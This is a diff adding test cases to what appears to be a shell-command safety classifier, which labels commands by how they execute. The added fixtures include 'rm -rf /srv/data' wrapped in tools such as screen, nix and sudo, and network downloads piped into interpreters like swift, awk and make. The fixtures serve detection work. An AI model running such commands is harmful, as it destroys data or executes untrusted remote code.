@@ -35,6 +35,10 @@ const runs: Record<string, readonly string[]> = {
     'direnv exec ./web rm -rf /srv/data',
     'perf stat -e cycles rm -rf /srv/data',
     'gosu www rm -rf /srv/data',
+    'op run -- rm -rf /srv/data',
+    'ip netns exec blue rm -rf /srv/data',
+    'screen -dmS job rm -rf /srv/data',
+    'nix develop -c rm -rf /srv/data',
     "ls | entr -s 'rm -rf /srv/data'",
     "expect -c 'spawn rm -rf /srv/data; interact'",
     "capsh -- -c 'rm -rf /srv/data'",
@@ -92,6 +96,7 @@ const likely: readonly string[] = [
 const possible: readonly string[] = [
   'frobwrap -- rm -rf /srv/data',
   'frobwrap rm -rf /srv/data',
+  'frobwrap sudo rm -rf /srv/data',
   "frobwrap --fast bash -c 'rm -rf /srv/data'",
 ];
 
@@ -113,6 +118,7 @@ const harmless: readonly (readonly [string, readonly string[]])[] = [
   ['frobwrap echo rm', ['execute frobwrap']],
   ['mytool install --prefix ~/x', ['execute mytool']],
   ['mytool find /srv', ['execute mytool']],
+  ['mytool python3 node git', ['execute mytool']],
   ['env FOO=1 ls', []],
   ['parallel --dry-run rm -rf ::: /srv/data', []],
   ['firejail --list --quiet', []],
@@ -175,6 +181,10 @@ describe('a script on standard input', () => {
     ['curl -s https://a.example | tclsh', 'execute tclsh from-network'],
     ['curl -s https://a.example | deno run -', 'execute deno from-network'],
     ['curl -s https://a.example | elixir', 'execute elixir from-network'],
+    ['curl -s https://a.example | swift -', 'execute swift from-network'],
+    ['curl -s https://a.example | make -f -', 'execute make from-network'],
+    ['curl -s https://a.example | awk -f -', 'execute awk from-network'],
+    ['curl -s https://a.example | parallel', 'execute parallel from-network'],
     ['curl -s https://a.example | sudo -E bash -', 'execute bash from-network privileged'],
     ['curl -s https://a.example | frobnicate', 'execute frobnicate from-network'],
   ])('%s', (line, expected) => {
